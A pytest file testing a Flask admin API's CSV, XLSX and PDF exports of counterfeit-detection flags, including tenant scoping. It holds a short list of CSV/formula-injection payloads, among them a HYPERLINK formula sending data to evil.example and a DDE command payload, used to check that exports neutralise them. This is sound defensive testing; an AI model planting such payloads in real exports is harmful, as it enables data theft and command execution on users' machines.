"""The flag list as CSV and XLSX, and a flag's evidence pack as a PDF, through the admin
API: scoped like the list (another organization's and another body's tokens get nothing
of brand X's), hostile cell values shown and never run, the PDF parses and carries the
code, its record, its scans, a map and the report photos."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
from flask import Flask
from openpyxl import load_workbook
from PIL import Image
from pypdf import PdfReader

from tests.alerts_world import (
    A_NO,
    CODE_A,
    CODE_B,
    DEPLOYMENTS,
    World,
    build_world,
    copy_events,
    hook_app_for,
    persist,
)
from tests.conftest import ADMIN
from webapp import container

# What a hostile reviewer (or a forged report) might leave in a cell.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(params=DEPLOYMENTS)
def hook_app(request: pytest.FixtureRequest) -> Flask:
    return hook_app_for(request)


@pytest.fixture
def world(hook_app: Flask) -> World:
    w = build_world(hook_app)
    # Two located scans among the six (Beijing, Guangzhou) so the map has points.
    events = copy_events(CODE_A, "x")
    events[0]["location"] = {"lat": 39.9, "lng": 116.4}
    events[1]["location"] = {"lat": 23.13, "lng": 113.26}
    assert w.http.post("/api/v1/admin/scans", json=events, headers=ADMIN).get_json()["accepted"] == 6
    b = copy_events(CODE_B, "y")
    assert w.http.post("/api/v1/admin/scans", json=b, headers=ADMIN).get_json()["accepted"] == 6
    persist(hook_app)
    return w


def flags_of(w: World, who: dict[str, str]) -> list[dict[str, object]]:
    return w.http.get("/api/v1/admin/flags", headers=who).get_json()["items"]  # type: ignore[no-any-return]


def csv_rows(w: World, who: dict[str, str], query: str = "") -> list[list[str]]:
    resp = w.http.get(f"/api/v1/admin/flags/export?format=csv{query}", headers=who)
    assert resp.status_code == 200, resp.get_data(as_text=True)
    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert resp.headers["Content-Disposition"].startswith('attachment; filename="flags-')
    text = resp.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_the_flag_list_exports_as_csv_with_hostile_notes_shown_not_run(world: World) -> None:
    own = flags_of(world, world.x)
    assert own and {f["code"] for f in own} == {CODE_A}
    for flag, note in zip(own, HOSTILE, strict=False):
        resp = world.http.patch(
            f"/api/v1/admin/flags/{flag['id']}", json={"status": "confirmed", "note": note}, headers=world.x
        )
        assert resp.status_code == 200
    rows = csv_rows(world, world.x)
    assert rows[0] == [
        "id",
        "code",
        "rule",
        "severity",
        "status",
        "raised_at",
        "updated_at",
        "note",
        "evidence",
    ]
    assert {r[1] for r in rows[1:]} == {CODE_A} and len(rows) == len(own) + 1
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    notes = {r[7] for r in rows[1:]}
    assert {"'" + n for n in HOSTILE[: len(own)]} <= notes
    # Filters are the list's own, and checked.
    assert {r[3] for r in csv_rows(world, world.x, "&severity=suspicious")[1:]} == {"suspicious"}
    resp = world.http.get("/api/v1/admin/flags/export?format=csv&severity=high", headers=world.x)
    assert resp.status_code == 400 and resp.get_json()["code"] == "invalid_severity"
    resp = world.http.get("/api/v1/admin/flags/export?format=pdf", headers=world.x)
    assert resp.status_code == 400 and resp.get_json()["code"] == "invalid_format"


def test_exports_are_scoped_like_the_list(world: World) -> None:
    y_rows = csv_rows(world, world.y)
    assert {r[1] for r in y_rows[1:]} == {CODE_B}
    assert {r[1] for r in csv_rows(world, world.a)[1:]} == {CODE_A}
    assert {r[1] for r in csv_rows(world, ADMIN)[1:]} == {CODE_A, CODE_B}
    assert csv_rows(world, world.y, f"&certificate={A_NO}")[1:] == []


def test_the_flag_list_exports_as_xlsx_with_text_cells_only(world: World) -> None:
    own = flags_of(world, world.x)
    world.http.patch(
        f"/api/v1/admin/flags/{own[0]['id']}", json={"status": "open", "note": HOSTILE[0]}, headers=world.x
    )
    resp = world.http.get("/api/v1/admin/flags/export?format=xlsx", headers=world.x)
    assert resp.status_code == 200
    assert resp.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    data = resp.get_data()
    # No formula anywhere in the workbook's XML.
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and all(b"<f>" not in z.read(n) and b"<f " not in z.read(n) for n in sheets)
    sheet = load_workbook(io.BytesIO(data), read_only=True)["flags"]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[0][:3] == ("id", "code", "rule") or rows[0][:3] == ["id", "code", "rule"]
    assert {r[1] for r in rows[1:]} == {CODE_A}
    assert "'" + HOSTILE[0] in {r[7] for r in rows[1:]}
    y = world.http.get("/api/v1/admin/flags/export?format=xlsx", headers=world.y).get_data()
    y_rows = list(load_workbook(io.BytesIO(y), read_only=True)["flags"].iter_rows(values_only=True))
    assert {r[1] for r in y_rows[1:]} == {CODE_B}


def _photo() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (320, 200), (40, 120, 60)).save(out, format="JPEG")
    return out.getvalue()


def test_the_evidence_pack_is_a_pdf_with_the_record_scans_map_and_photos(world: World) -> None:
    container(world.app).scan_sql.add_report(
        CODE_A, None, "包装印刷模糊，疑似假冒", "某超市", _photo(), "image/jpeg", "北京市", "北京市"
    )
    flag = next(f for f in flags_of(world, world.x) if f["rule"] == "distinct_scanners")
    resp = world.http.get(f"/api/v1/admin/flags/{flag['id']}/evidence.pdf", headers=world.x)
    assert resp.status_code == 200 and resp.mimetype == "application/pdf"
    assert f"evidence-flag-{flag['id']}-{CODE_A}.pdf" in resp.headers["Content-Disposition"]
    reader = PdfReader(io.BytesIO(resp.get_data()))
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert CODE_A in text and A_NO in text and "distinct_scanners" in text
    assert "有机大米" in text and "甲农场" in text and "证据包" in text
    assert "北京" in text and "广州" in text  # the located scans' cities in the table
    assert "6 scans in all" in text
    assert "包装印刷模糊" in text
    assert sum(len(page.images) for page in reader.pages) >= 1  # the report's photo
    for who in (world.y, ADMIN):
        status = world.http.get(f"/api/v1/admin/flags/{flag['id']}/evidence.pdf", headers=who).status_code
        assert status == (200 if who is ADMIN else 404)
    b = build_token(world, "body B", "body", "0456")
    assert world.http.get(f"/api/v1/admin/flags/{flag['id']}/evidence.pdf", headers=b).status_code == 404
    assert (
        world.http.get(f"/api/v1/admin/flags/{flag['id']}/evidence.pdf", headers=world.a).status_code == 200
    )
    assert world.http.get("/api/v1/admin/flags/999999/evidence.pdf", headers=ADMIN).status_code == 404
    assert world.http.get(f"/api/v1/admin/flags/{2**70}/evidence.pdf", headers=ADMIN).status_code == 404


def build_token(w: World, name: str, kind: str, target: str) -> dict[str, str]:
    raw = container(w.app).admin.create_token(
        name, kind, target, expires_at=datetime.now(UTC) + timedelta(days=1)
    )
    return {"Authorization": f"Bearer {raw}"}
